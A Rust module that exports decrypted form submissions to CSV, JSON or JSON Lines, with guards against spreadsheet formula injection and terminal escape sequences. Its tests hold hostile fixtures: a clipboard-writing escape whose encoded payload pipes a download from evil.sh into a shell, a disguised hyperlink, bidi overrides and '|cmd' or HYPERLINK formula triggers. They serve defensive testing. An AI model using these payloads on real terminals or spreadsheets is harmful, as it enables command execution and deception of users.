//! Export writers: opened submissions to CSV, JSON or JSON Lines, in memory that is wiped on drop.
//!
//! * **CSV**: UTF-8 with a byte order mark (so spreadsheet programs detect UTF-8; none on a
//!   terminal), CRLF line ends (RFC 4180), quoting only where needed, newlines inside values kept
//!   (quoted). Columns:
//!   `record,campaign,language,received`, then the field names in the order of the first record,
//!   followed by names first seen in later records, in order of appearance. Multi-choice answers
//!   are joined with `"; "`, consents are `yes`/`no`, a field a record lacks is empty. A cell that
//!   starts like a formula ([`starts_like_formula`]) gets a leading `'`, so a spreadsheet shows it
//!   as text instead of running it (<https://owasp.org/www-community/attacks/CSV_Injection>).
//!   Written to a file or a pipe, cells hold the exact answers, control characters included
//!   (quoted). Shown on a terminal ([`Output::Terminal`]), every cell is escaped as
//!   [`crate::escape`] describes, keeping only line feeds, so no answer can act on the terminal.
//! * **JSON**: an array of objects
//!   `{"record":…,"campaign":…,"campaign_version":…,"language":…,"received":…,"fields":{name: value, …}}`,
//!   fields in the record's own order; text and single choices are strings, multi choices arrays
//!   of strings, consents booleans; `campaign_version` is `null` for a record that predates
//!   campaign versions. **JSON Lines**: the same objects, one per line. JSON escapes the C0
//!   controls itself; every other character a terminal would act on or hide
//!   ([`crate::escape::is_unsafe`]: DEL, C1, bidirectional and invisible characters) is written as
//!   a `\uXXXX` escape too, wherever the export goes. The strings read back exactly the same, and
//!   the export is safe to show on a terminal, now or later.
//!
//! # In the form's words
//!
//! With the campaign a record was filled in on ([`FormWords`], from a vault), the same export reads
//! as the form did ([`export_worded`]):
//!
//! * CSV: a field's column is headed by its question (the label from the first record whose
//!   campaign has the field; a label two columns share gets the field name after it in
//!   parentheses); a choice shows its option's label, several joined with `"; "`; the `intent`
//!   column shows `Sign`, `Sign and share` or `Share only`. A record without a campaign keeps its
//!   codes, and a field no record's campaign has keeps its name.
//! * JSON: the codes stay as they are; each object with a campaign adds, after `fields`,
//!   `"labels": {name: question, …}` (the intent, which the campaign file does not word, has
//!   none) and `"option_labels": {name: {value: label, …}, …}` for the options the record holds.

use std::collections::HashSet;
use std::fmt;
use std::io::{self, Write};

use seal::{FieldValue, Submission};
use zeroize::Zeroizing;

use crate::escape::{self, LineFeeds};
use crate::words::{self, FormWords};

/// One opened record, ready to export.
#[derive(Debug)]
pub struct Opened {
    /// What names the record in the export: its id (the file name without `.age`).
    pub record: String,
    /// The opened submission (plaintext, wiped on drop).
    pub submission: Submission,
}

/// The export formats.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, clap::ValueEnum)]
pub enum Format {
    /// Comma-separated values, for spreadsheets (UTF-8 with a byte order mark)
    #[default]
    Csv,
    /// One JSON array of objects
    Json,
    /// JSON Lines: one JSON object per line
    Jsonl,
}

/// Where an export goes, which decides how a CSV export shows control characters.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Output {
    /// A file or a pipe: the exact answers (CSV quotes control characters).
    FileOrPipe,
    /// A terminal, which would act on control characters: CSV cells show them escaped.
    Terminal,
}

/// Writes `records` in `format`, for `output`.
pub fn export(format: Format, records: &[Opened], output: Output) -> io::Result<SecretBuf> {
    export_worded(format, records, &[], output)
}

/// Writes `records` in `format`, for `output`, each in the words of its form: `words[i]` for
/// `records[i]`, codes where it is `None` or missing (see the module documentation).
pub fn export_worded(
    format: Format,
    records: &[Opened],
    words: &[Option<FormWords<'_>>],
    output: Output,
) -> io::Result<SecretBuf> {
    let worded = Worded { words };
    match format {
        Format::Csv => Ok(csv_worded(records, worded, output)),
        Format::Json => json_worded(records, worded),
        Format::Jsonl => jsonl_worded(records, worded),
    }
}

/// Each record's form words, by position; `None` past the end.
#[derive(Clone, Copy)]
struct Worded<'w, 'a> {
    words: &'w [Option<FormWords<'a>>],
}

impl<'a> Worded<'_, 'a> {
    fn of(&self, index: usize) -> Option<FormWords<'a>> {
        self.words.get(index).copied().flatten()
    }
}

/// The columns every CSV export starts with.
pub const CSV_FIXED_COLUMNS: [&str; 4] = ["record", "campaign", "language", "received"];

/// The byte order mark a CSV export starts with (except on a terminal).
pub const UTF8_BOM: &[u8] = "\u{feff}".as_bytes();

/// The characters that make a spreadsheet read a cell as a formula: `=`, `+`, `-`, `@`, their
/// full-width forms (which some spreadsheets fold to the ASCII ones), and `|` (dynamic data
/// exchange, as in `|cmd`).
const FORMULA_TRIGGERS: [char; 9] = [
    '=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}', '|',
];

/// The CSV export, for `output`.
pub fn csv(records: &[Opened], output: Output) -> SecretBuf {
    csv_worded(records, Worded { words: &[] }, output)
}

fn csv_worded(records: &[Opened], worded: Worded<'_, '_>, output: Output) -> SecretBuf {
    let columns = csv_field_columns(records);
    let headings = csv_headings(records, &columns, worded);
    let mut out = CsvWriter::new(output);
    for heading in CSV_FIXED_COLUMNS
        .iter()
        .copied()
        .chain(headings.iter().map(String::as_str))
    {
        out.cell(heading);
    }
    out.end_record();
    for (index, opened) in records.iter().enumerate() {
        let submission = &opened.submission;
        let words = worded.of(index);
        out.cell(&opened.record);
        out.cell(submission.campaign());
        out.cell(submission.language());
        out.cell(&Zeroizing::new(submission.received().to_string()));
        for name in &columns {
            let label = |value: &str| words.and_then(|w| w.option_label(name, value));
            match submission.expose_field(name) {
                None => out.cell(""),
                Some(FieldValue::Text(text)) => out.cell(text),
                Some(FieldValue::Choice(value)) => out.cell(label(value).unwrap_or(value)),
                Some(FieldValue::Choices(choices)) => out.cell(&join_choices(
                    choices
                        .iter()
                        .map(|value| label(value).unwrap_or(value.as_str())),
                )),
                Some(FieldValue::Consent(consent)) => out.cell(words::yes_no(*consent)),
            }
        }
        out.end_record();
    }
    out.finish()
}

/// The heading of each field column: the question, from the first record whose campaign has it,
/// or the field's name. A question heading two columns is told apart by the field's name.
fn csv_headings(records: &[Opened], columns: &[&str], worded: Worded<'_, '_>) -> Vec<String> {
    let labels: Vec<Option<&str>> = columns
        .iter()
        .map(|name| {
            (0..records.len()).find_map(|index| worded.of(index).and_then(|w| w.label(name)))
        })
        .collect();
    columns
        .iter()
        .zip(&labels)
        .map(|(name, label)| match label {
            None => (*name).to_owned(),
            Some(label) if labels.iter().filter(|l| **l == Some(*label)).count() > 1 => {
                format!("{label} ({name})")
            }
            Some(label) => (*label).to_owned(),
        })
        .collect()
}

/// The field columns of a CSV export: the first record's field names in order, then names first
/// seen in later records, in order of appearance; each name once.
pub fn csv_field_columns(records: &[Opened]) -> Vec<&str> {
    let mut seen = HashSet::new();
    records
        .iter()
        .flat_map(|opened| opened.submission.expose_fields())
        .map(seal::Field::name)
        .filter(|name| seen.insert(*name))
        .collect()
}

/// Whether a spreadsheet might run `cell` as a formula: it starts with a trigger
/// ([`FORMULA_TRIGGERS`]), even after spaces, tabs or line breaks (spreadsheets skip those when
/// they look for a formula), or with a tab or a carriage return (OWASP lists those as triggers of
/// their own).
pub fn starts_like_formula(cell: &str) -> bool {
    cell.starts_with(['\t', '\r']) || cell.trim_start().starts_with(FORMULA_TRIGGERS)
}

/// `cell`, with a leading `'` when it starts like a formula. The copy is wiped on drop.
pub fn guard_formula(cell: &str) -> Zeroizing<String> {
    let mut guarded = Zeroizing::new(String::with_capacity(cell.len() + 1));
    if starts_like_formula(cell) {
        guarded.push('\'');
    }
    guarded.push_str(cell);
    guarded
}

fn join_choices<'c>(choices: impl Iterator<Item = &'c str> + Clone) -> Zeroizing<String> {
    const SEPARATOR: &str = "; ";
    let (count, length): (usize, usize) =
        choices.clone().fold((0, 0), |(count, length), choice| {
            (count + 1, length + choice.len())
        });
    // Sized exactly, so that it never reallocates (which would leave an unwiped copy behind).
    let mut joined = Zeroizing::new(String::with_capacity(
        length + SEPARATOR.len() * count.saturating_sub(1),
    ));
    for (index, choice) in choices.enumerate() {
        if index > 0 {
            joined.push_str(SEPARATOR);
        }
        joined.push_str(choice);
    }
    joined
}

/// The JSON export: an array, one object per line.
pub fn json(records: &[Opened]) -> io::Result<SecretBuf> {
    json_worded(records, Worded { words: &[] })
}

fn json_worded(records: &[Opened], worded: Worded<'_, '_>) -> io::Result<SecretBuf> {
    let mut out = SecretBuf::new();
    if records.is_empty() {
        out.write_all(b"[]\n")?;
        return Ok(out);
    }
    out.write_all(b"[\n")?;
    for (index, opened) in records.iter().enumerate() {
        out.write_all(b"  ")?;
        json_object(&mut out, opened, worded.of(index))?;
        out.write_all(if index + 1 < records.len() {
            b",\n"
        } else {
            b"\n"
        })?;
    }
    out.write_all(b"]\n")?;
    escape_unsafe_in_json(&out)
}

/// The JSON Lines export: one object per line.
pub fn jsonl(records: &[Opened]) -> io::Result<SecretBuf> {
    jsonl_worded(records, Worded { words: &[] })
}

fn jsonl_worded(records: &[Opened], worded: Worded<'_, '_>) -> io::Result<SecretBuf> {
    let mut out = SecretBuf::new();
    for (index, opened) in records.iter().enumerate() {
        json_object(&mut out, opened, worded.of(index))?;
        out.write_all(b"\n")?;
    }
    escape_unsafe_in_json(&out)
}

/// `json` with every character a terminal would act on or hide written as a `\uXXXX` escape
/// (a surrogate pair above U+FFFF), as JSON allows for any character. serde_json has already
/// escaped the C0 controls, quotes and backslashes inside strings, so a line feed left is the
/// export's own layout, and JSON outside its strings is otherwise plain printable ASCII: every
/// character left to escape is inside a string, and not just after a backslash.
fn escape_unsafe_in_json(json: &SecretBuf) -> io::Result<SecretBuf> {
    let text = std::str::from_utf8(json.expose())
        .map_err(|err| io::Error::new(io::ErrorKind::InvalidData, err))?;
    let mut out = SecretBuf::new();
    let mut rest = text;
    while let Some((at, c)) = rest
        .char_indices()
        .find(|&(_, c)| c != '\n' && escape::is_unsafe(c))
    {
        out.extend(&rest.as_bytes()[..at]);
        for unit in c.encode_utf16(&mut [0; 2]) {
            write!(out, "\\u{unit:04x}")?;
        }
        rest = &rest[at + c.len_utf8()..];
    }
    out.extend(rest.as_bytes());
    Ok(out)
}

/// Writes one record's object by hand, value by value, so that keys keep their order and no
/// plaintext passes through a `serde_json::Value` (whose strings would not be wiped).
fn json_object(
    out: &mut SecretBuf,
    opened: &Opened,
    words: Option<FormWords<'_>>,
) -> io::Result<()> {
    let submission = &opened.submission;
    out.write_all(b"{\"record\":")?;
    serde_json::to_writer(&mut *out, &opened.record)?;
    out.write_all(b",\"campaign\":")?;
    serde_json::to_writer(&mut *out, submission.campaign())?;
    out.write_all(b",\"campaign_version\":")?;
    serde_json::to_writer(&mut *out, &submission.campaign_version())?;
    out.write_all(b",\"language\":")?;
    serde_json::to_writer(&mut *out, submission.language())?;
    out.write_all(b",\"received\":")?;
    serde_json::to_writer(
        &mut *out,
        &*Zeroizing::new(submission.received().to_string()),
    )?;
    out.write_all(b",\"fields\":{")?;
    // A name repeated within one record keeps its first value, as in the CSV export: JSON
    // readers disagree on duplicate keys.
    let mut seen = HashSet::new();
    for field in submission.expose_fields() {
        if !seen.insert(field.name()) {
            continue;
        }
        if seen.len() > 1 {
            out.write_all(b",")?;
        }
        serde_json::to_writer(&mut *out, field.name())?;
        out.write_all(b":")?;
        match field.expose_value() {
            FieldValue::Text(text) | FieldValue::Choice(text) => {
                serde_json::to_writer(&mut *out, text)?;
            }
            FieldValue::Choices(choices) => serde_json::to_writer(&mut *out, choices)?,
            FieldValue::Consent(consent) => serde_json::to_writer(&mut *out, consent)?,
        }
    }
    out.write_all(b"}")?;
    if let Some(words) = words {
        json_labels(out, submission, words)?;
    }
    out.write_all(b"}")?;
    Ok(())
}

/// `,"labels":{…},"option_labels":{…}` for one record: the questions its fields answer, and the
/// labels of the options it holds, as its form showed them.
fn json_labels(
    out: &mut SecretBuf,
    submission: &Submission,
    words: FormWords<'_>,
) -> io::Result<()> {
    // The first field of a repeated name, as in `fields`.
    let mut seen = HashSet::new();
    let fields: Vec<&seal::Field> = submission
        .expose_fields()
        .iter()
        .filter(|field| seen.insert(field.name()))
        .collect();

    out.write_all(b",\"labels\":{")?;
    let mut first = true;
    for field in &fields {
        let Some(label) = words.label(field.name()) else {
            continue;
        };
        if !std::mem::take(&mut first) {
            out.write_all(b",")?;
        }
        serde_json::to_writer(&mut *out, field.name())?;
        out.write_all(b":")?;
        serde_json::to_writer(&mut *out, label)?;
    }

    out.write_all(b"},\"option_labels\":{")?;
    let mut first = true;
    for field in &fields {
        let name = field.name();
        let values: Vec<&str> = match field.expose_value() {
            FieldValue::Choice(value) => vec![value.as_str()],
            FieldValue::Choices(values) => values.iter().map(String::as_str).collect(),
            FieldValue::Text(_) | FieldValue::Consent(_) => continue,
        };
        let mut labelled = HashSet::new();
        let labels: Vec<(&str, &str)> = values
            .into_iter()
            .filter(|value| labelled.insert(*value))
            .filter_map(|value| Some((value, words.option_label(name, value)?)))
            .collect();
        if labels.is_empty() {
            continue;
        }
        if !std::mem::take(&mut first) {
            out.write_all(b",")?;
        }
        serde_json::to_writer(&mut *out, name)?;
        out.write_all(b":{")?;
        for (index, (value, label)) in labels.iter().enumerate() {
            if index > 0 {
                out.write_all(b",")?;
            }
            serde_json::to_writer(&mut *out, value)?;
            out.write_all(b":")?;
            serde_json::to_writer(&mut *out, label)?;
        }
        out.write_all(b"}")?;
    }
    out.write_all(b"}")?;
    Ok(())
}

/// A CSV writer on csv-core, writing straight into a [`SecretBuf`].
struct CsvWriter {
    core: csv_core::Writer,
    out: SecretBuf,
    output: Output,
    at_record_start: bool,
}

impl CsvWriter {
    fn new(output: Output) -> Self {
        let mut out = SecretBuf::new();
        // A terminal needs no byte order mark, and would only get an invisible character.
        if output == Output::FileOrPipe {
            out.extend(UTF8_BOM);
        }
        Self {
            core: csv_core::WriterBuilder::new()
                .terminator(csv_core::Terminator::CRLF)
                .build(),
            out,
            output,
            at_record_start: true,
        }
    }

    /// Writes one cell, guarded against formulas, and escaped for a terminal when it goes to one
    /// (guarded first: the guard looks at the answer as typed).
    fn cell(&mut self, text: &str) {
        let Self {
            core,
            out,
            output,
            at_record_start,
        } = self;
        if !*at_record_start {
            out.fill(2, |buf| core.delimiter(buf).1);
        }
        *at_record_start = false;
        let guarded = guard_formula(text);
        let shown = match output {
            Output::FileOrPipe => guarded,
            Output::Terminal => escape::for_terminal(&guarded, LineFeeds::Keep),
        };
        let mut input = shown.as_bytes();
        // Called at least once, even for an empty cell, so csv-core knows the field began.
        loop {
            let mut consumed = 0;
            let mut done = false;
            // csv-core writes at most 2 + 2 × the input's length for a field.
            out.fill(2 + 2 * input.len(), |buf| {
                let (result, read, written) = core.field(input, buf);
                consumed = read;
                done = matches!(result, csv_core::WriteResult::InputEmpty);
                written
            });
            input = &input[consumed..];
            if done {
                break;
            }
        }
    }

    fn end_record(&mut self) {
        let Self { core, out, .. } = self;
        out.fill(3, |buf| core.terminator(buf).1);
        self.at_record_start = true;
    }

    fn finish(mut self) -> SecretBuf {
        let Self { core, out, .. } = &mut self;
        out.fill(2, |buf| core.finish(buf).1);
        self.out
    }
}

/// A growable byte buffer for plaintext: wiped on drop, and wiped before every reallocation, so
/// that growing it leaves no stray copy in freed memory (a plain `Vec` would). Prints redacted.
#[derive(Default)]
pub struct SecretBuf {
    bytes: Zeroizing<Vec<u8>>,
}

impl SecretBuf {
    const INITIAL_CAPACITY: usize = 16 * 1024;

    /// An empty buffer.
    pub fn new() -> Self {
        Self {
            bytes: Zeroizing::new(Vec::with_capacity(Self::INITIAL_CAPACITY)),
        }
    }

    /// The contents. Named to make reading plaintext a visible act.
    pub fn expose(&self) -> &[u8] {
        &self.bytes
    }

    /// Appends `data`.
    pub fn extend(&mut self, data: &[u8]) {
        self.reserve(data.len());
        self.bytes.extend_from_slice(data);
    }

    /// Lets `write` fill up to `max` bytes at the end; it returns how many it wrote.
    fn fill(&mut self, max: usize, write: impl FnOnce(&mut [u8]) -> usize) {
        self.reserve(max);
        let start = self.bytes.len();
        self.bytes.resize(start + max, 0);
        let written = write(&mut self.bytes[start..]);
        self.bytes.truncate(start + written.min(max));
    }

    fn reserve(&mut self, additional: usize) {
        let needed = self.bytes.len().saturating_add(additional);
        if needed <= self.bytes.capacity() {
            return;
        }
        let capacity = needed.max(self.bytes.capacity().saturating_mul(2));
        let mut bigger = Zeroizing::new(Vec::with_capacity(capacity));
        bigger.extend_from_slice(&self.bytes);
        // The old allocation is wiped as it drops.
        self.bytes = bigger;
    }
}

impl Write for SecretBuf {
    fn write(&mut self, data: &[u8]) -> io::Result<usize> {
        self.extend(data);
        Ok(data.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

impl fmt::Debug for SecretBuf {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "SecretBuf(..redacted.., {} bytes)", self.bytes.len())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;
    use seal::Field;

    fn opened<N: Into<String>>(record: &str, fields: Vec<(N, FieldValue)>) -> Opened {
        Opened {
            record: record.to_owned(),
            submission: Submission::new(
                "letter".into(),
                "0".repeat(64),
                "en".into(),
                "2026-11-28".parse().unwrap(),
                fields
                    .into_iter()
                    .map(|(name, value)| Field::new(name, value))
                    .collect(),
            ),
        }
    }

    fn text(value: &str) -> FieldValue {
        FieldValue::Text(value.to_owned())
    }

    fn csv_text(records: &[Opened]) -> String {
        csv_text_for(records, Output::FileOrPipe)
    }

    fn csv_text_for(records: &[Opened], output: Output) -> String {
        let out = csv(records, output);
        let text = std::str::from_utf8(out.expose()).unwrap();
        match output {
            Output::FileOrPipe => text.strip_prefix('\u{feff}').expect("a BOM").to_owned(),
            Output::Terminal => {
                assert!(!text.starts_with('\u{feff}'), "no BOM on a terminal");
                text.to_owned()
            }
        }
    }

    #[test]
    fn columns_follow_the_first_record_then_new_names_in_order_of_appearance() {
        let records = [
            opened("r1", vec![("x", text("1")), ("y", text("2"))]),
            opened("r2", vec![("z", text("3")), ("x", text("4"))]),
            opened(
                "r3",
                vec![("w", text("5")), ("z", text("6")), ("v", text("7"))],
            ),
        ];
        assert_eq!(csv_field_columns(&records), ["x", "y", "z", "w", "v"]);
        assert_eq!(
            csv_text(&records),
            "record,campaign,language,received,x,y,z,w,v\r\n\
             r1,letter,en,2026-11-28,1,2,,,\r\n\
             r2,letter,en,2026-11-28,4,,3,,\r\n\
             r3,letter,en,2026-11-28,,,6,5,7\r\n"
        );
    }

    #[test]
    fn csv_quotes_only_where_needed_and_renders_every_kind_of_value() {
        let records = [opened(
            "r1",
            vec![
                ("plain", text("Mai")),
                ("comma", text("a, b")),
                ("quote", text("say \"hi\"")),
                ("newline", text("one\ntwo")),
                ("empty", text("")),
                ("choice", FieldValue::Choice("individual".into())),
                (
                    "choices",
                    FieldValue::Choices(vec!["x".into(), "y, z".into(), "w".into()]),
                ),
                ("none", FieldValue::Choices(Vec::new())),
                ("yes", FieldValue::Consent(true)),
                ("no", FieldValue::Consent(false)),
            ],
        )];
        assert_eq!(
            csv_text(&records),
            "record,campaign,language,received,plain,comma,quote,newline,empty,choice,choices,none,yes,no\r\n\
             r1,letter,en,2026-11-28,Mai,\"a, b\",\"say \"\"hi\"\"\",\"one\ntwo\",,individual,\"x; y, z; w\",,yes,no\r\n"
        );
    }

    #[test]
    fn an_empty_export_still_has_its_header_and_shape() {
        assert_eq!(csv_text(&[]), "record,campaign,language,received\r\n");
        assert_eq!(json(&[]).unwrap().expose(), b"[]\n");
        assert_eq!(jsonl(&[]).unwrap().expose(), b"");
    }

    #[test]
    fn formula_starts_are_guarded_and_nothing_else() {
        let guarded = [
            "=1+2",
            "+1",
            "-1",
            "@x",
            "|cmd",
            "\tx",
            "\rx",
            "=",
            "-",
            // Full-width forms.
            "\u{ff1d}1+2",
            "\u{ff0b}1",
            "\u{ff0d}1",
            "\u{ff20}SUM(A1)",
            // After spaces and line breaks, which spreadsheets skip.
            " =1+2",
            "   +1",
            "\n=HYPERLINK(\"http://x\")",
            "\r\n@SUM(A1:A9)",
            " \t -1",
            "\u{a0}=1",
            "\u{3000}\u{ff1d}1",
            "\n|cmd",
            // A tab or carriage return is guarded whatever follows.
            "\t",
            "\r",
            "\rx",
        ];
        for cell in guarded {
            assert!(starts_like_formula(cell), "{cell:?}");
            assert_eq!(*guard_formula(cell), format!("'{cell}"), "{cell:?}");
        }
        let left_alone = [
            "",
            "1+2",
            "a=b",
            "'=1",
            "Mai",
            " ",
            "\n",
            "\nMai",
            "  text = more",
            "x|y",
            "1\u{ff1d}1",
            "\u{200b}=1",
        ];
        for cell in left_alone {
            assert!(!starts_like_formula(cell), "{cell:?}");
            assert_eq!(*guard_formula(cell), cell, "{cell:?}");
        }
    }

    /// Answers that attack a terminal, and how a CSV export written to one shows them.
    #[test]
    fn csv_on_a_terminal_escapes_every_cell_and_keeps_line_feeds() {
        let cases = [
            (
                "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
                "\\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u{7}",
            ),
            (
                "\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\",
                "\\u{1b}]8;;https://evil.example/\\u{1b}\\docs\\u{1b}]8;;\\u{1b}\\",
            ),
            ("\x1b[2J", "\\u{1b}[2J"),
            ("I agree\x1b[8m not", "I agree\\u{1b}[8m not"),
            ("evil\rgood", "evil\\u{d}good"),
            ("\u{9b}2J", "\\u{9b}2J"),
            ("\u{202e}gnp.exe", "\\u{202e}gnp.exe"),
            ("\u{2067}abc\u{2069}", "\\u{2067}abc\\u{2069}"),
            ("one\ntwo", "\"one\ntwo\""),
            // Guarded as typed, then escaped.
            ("\t=1", "'\\u{9}=1"),
            ("Mai", "Mai"),
        ];
        for (answer, shown) in cases {
            let records = [opened("r\x1b[2J", vec![("f\u{9b}", text(answer))])];
            assert_eq!(
                csv_text_for(&records, Output::Terminal),
                format!(
                    "record,campaign,language,received,f\\u{{9b}}\r\n\
                     r\\u{{1b}}[2J,letter,en,2026-11-28,{shown}\r\n"
                ),
                "{answer:?}"
            );
            // To a file or a pipe, the exact answer (quoted if need be).
            let exact = csv_text(&records);
            let mut reader = ::csv::Reader::from_reader(exact.as_bytes());
            assert_eq!(&reader.headers().unwrap()[4], "f\u{9b}");
            let row = reader.records().next().unwrap().unwrap();
            assert_eq!(&row[0], "r\x1b[2J");
            assert_eq!(row[4], *guard_formula(answer), "{answer:?}");
        }
    }

    #[test]
    fn json_escapes_every_unsafe_character_and_reads_back_exactly() {
        let hostile = "\x1b]52;c;eA==\x07 \x1b[2J\r\u{7f}\u{9b}\u{202e}\u{2066}\u{200b}\u{feff}\u{e0041} ok \u{200d} \u{5bc6}";
        let records = [opened(
            "r1",
            vec![
                ("t\u{202e}", text(hostile)),
                ("c", FieldValue::Choices(vec![hostile.to_owned()])),
            ],
        )];
        // The joiner and the ideograph are text, and stay as they are.
        let escaped = "\\u001b]52;c;eA==\\u0007 \\u001b[2J\\r\\u007f\\u009b\\u202e\\u2066\\u200b\\ufeff\\udb40\\udc41 ok \u{200d} \u{5bc6}";
        let version = "0".repeat(64);
        let line = format!(
            r#"{{"record":"r1","campaign":"letter","campaign_version":"{version}","language":"en","received":"2026-11-28","fields":{{"t\u202e":"{escaped}","c":["{escaped}"]}}}}"#
        );
        let jsonl = jsonl(&records).unwrap();
        let jsonl = std::str::from_utf8(jsonl.expose()).unwrap();
        assert_eq!(jsonl, format!("{line}\n"));
        let json = json(&records).unwrap();
        let json = std::str::from_utf8(json.expose()).unwrap();
        assert_eq!(json, format!("[\n  {line}\n]\n"));
        assert!(!json.chars().any(|c| escape::is_unsafe(c) && c != '\n'));

        let parsed: serde_json::Value = serde_json::from_str(jsonl).unwrap();
        assert_eq!(parsed["fields"]["t\u{202e}"], hostile);
        assert_eq!(parsed["fields"]["c"][0], hostile);
    }

    #[test]
    fn json_keeps_field_order_and_types_and_the_first_of_a_repeated_name() {
        let records = [opened(
            "r1",
            vec![
                ("z_last_alphabetically", text("first")),
                (
                    "choices",
                    FieldValue::Choices(vec!["a".into(), "\"b\"".into()]),
                ),
                ("consent", FieldValue::Consent(true)),
                ("z_last_alphabetically", text("repeated")),
                ("choice", FieldValue::Choice("=x".into())),
            ],
        )];
        let version = "0".repeat(64);
        let line = format!(
            r#"{{"record":"r1","campaign":"letter","campaign_version":"{version}","language":"en","received":"2026-11-28","fields":{{"z_last_alphabetically":"first","choices":["a","\"b\""],"consent":true,"choice":"=x"}}}}"#
        );
        assert_eq!(
            std::str::from_utf8(jsonl(&records).unwrap().expose()).unwrap(),
            format!("{line}\n")
        );
        assert_eq!(
            std::str::from_utf8(json(&records).unwrap().expose()).unwrap(),
            format!("[\n  {line}\n]\n")
        );
    }

    const WORDED_CAMPAIGN: &str = r#"
id = "letter"
title = "Letter"
language = "en"
testimony = "story"
letter = "Dear all."

[[fields]]
name = "sign_as"
kind = "single_choice"
label = "Sign as"
asked = "signers"
options = [{ value = "individual", label = "Individual" }, { value = "organization", label = "Organization" }]

[[fields]]
name = "actions"
kind = "multi_choice"
label = "Actions"
asked = "signers"
options = [{ value = "share", label = "Share the letter" }, { value = "meet", label = "Meet" }]

[[fields]]
name = "note"
kind = "short_text"
label = "Comment"

[[fields]]
name = "story"
kind = "long_text"
label = "Comment"

[[fields]]
name = "public"
kind = "consent"
label = "@List me"
"#;

    /// A record with a campaign, and one without.
    fn worded_records() -> [Opened; 2] {
        [
            opened(
                "r1",
                vec![
                    ("intent", FieldValue::Choice("sign_and_share".into())),
                    ("sign_as", FieldValue::Choice("organization".into())),
                    (
                        "actions",
                        FieldValue::Choices(vec!["share".into(), "meet".into()]),
                    ),
                    ("note", text("hi")),
                    ("story", text("x")),
                    ("public", FieldValue::Consent(true)),
                ],
            ),
            opened(
                "r2",
                vec![
                    ("intent", FieldValue::Choice("share".into())),
                    ("sign_as", FieldValue::Choice(String::new())),
                    ("actions", FieldValue::Choices(Vec::new())),
                    ("note", text("")),
                    ("story", text("y")),
                    ("public", FieldValue::Consent(false)),
                ],
            ),
        ]
    }

    #[test]
    fn a_worded_csv_has_questions_for_headings_and_labels_for_answers() {
        let campaign = sealform_campaign::Campaign::from_toml("c.toml", WORDED_CAMPAIGN).unwrap();
        let records = worded_records();
        let words = [Some(FormWords::new(&campaign, None)), None];
        let out = export_worded(Format::Csv, &records, &words, Output::FileOrPipe).unwrap();
        assert_eq!(
            std::str::from_utf8(out.expose()).unwrap(),
            "\u{feff}record,campaign,language,received,intent,Sign as,Actions,Comment (note),Comment (story),'@List me\r\n\
             r1,letter,en,2026-11-28,Sign and share,Organization,Share the letter; Meet,hi,x,yes\r\n\
             r2,letter,en,2026-11-28,share,,,,y,no\r\n"
        );
        // Without words, exactly the codes export.
        let plain = export_worded(Format::Csv, &records, &[], Output::FileOrPipe).unwrap();
        assert_eq!(plain.expose(), csv(&records, Output::FileOrPipe).expose());
    }

    #[test]
    fn worded_json_keeps_the_codes_and_adds_labels() {
        let campaign = sealform_campaign::Campaign::from_toml("c.toml", WORDED_CAMPAIGN).unwrap();
        let records = worded_records();
        let words = [Some(FormWords::new(&campaign, None)), None];
        let out = export_worded(Format::Jsonl, &records, &words, Output::FileOrPipe).unwrap();
        let version = "0".repeat(64);
        assert_eq!(
            std::str::from_utf8(out.expose()).unwrap(),
            format!(
                r#"{{"record":"r1","campaign":"letter","campaign_version":"{version}","language":"en","received":"2026-11-28","fields":{{"intent":"sign_and_share","sign_as":"organization","actions":["share","meet"],"note":"hi","story":"x","public":true}},"labels":{{"sign_as":"Sign as","actions":"Actions","note":"Comment","story":"Comment","public":"@List me"}},"option_labels":{{"intent":{{"sign_and_share":"Sign and share"}},"sign_as":{{"organization":"Organization"}},"actions":{{"share":"Share the letter","meet":"Meet"}}}}}}
{{"record":"r2","campaign":"letter","campaign_version":"{version}","language":"en","received":"2026-11-28","fields":{{"intent":"share","sign_as":"","actions":[],"note":"","story":"y","public":false}}}}
"#
            )
        );
    }

    #[test]
    fn the_secret_buffer_grows_without_losing_bytes_and_prints_redacted() {
        let mut buf = SecretBuf::new();
        let chunk: Vec<u8> = (0..=255).collect();
        for _ in 0..300 {
            buf.write_all(&chunk).unwrap();
        }
        assert_eq!(buf.expose().len(), 300 * 256);
        assert!(buf.expose().chunks(256).all(|c| c == chunk.as_slice()));
        assert_eq!(format!("{buf:?}"), "SecretBuf(..redacted.., 76800 bytes)");
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]
        #[test]
        fn any_text_survives_a_csv_round_trip(
            values in prop::collection::vec(
                prop_oneof![
                    any::<String>(),
                    "[=+@|\u{ff1d}\u{ff0b}\u{ff0d}\u{ff20} \u{3000}\t\r\n\",; '-]{0,6}",
                    "\\PC{0,20}",
                ],
                1..6,
            ),
            record in "[0-9a-f]{1,32}",
        ) {
            let fields = values
                .iter()
                .enumerate()
                .map(|(index, value)| (format!("f{index}"), text(value)))
                .collect();
            let records = [opened(&record, fields)];
            let out = csv(&records, Output::FileOrPipe);
            let mut reader = ::csv::ReaderBuilder::new().from_reader(out.expose());
            let rows: Vec<::csv::StringRecord> =
                reader.records().collect::<Result<_, _>>().unwrap();
            prop_assert_eq!(rows.len(), 1);
            prop_assert_eq!(&rows[0][0], record.as_str());
            for (index, value) in values.iter().enumerate() {
                let expected = if starts_like_formula(value) {
                    format!("'{value}")
                } else {
                    value.clone()
                };
                prop_assert_eq!(&rows[0][index + 4], expected.as_str());
            }
        }
    }
}
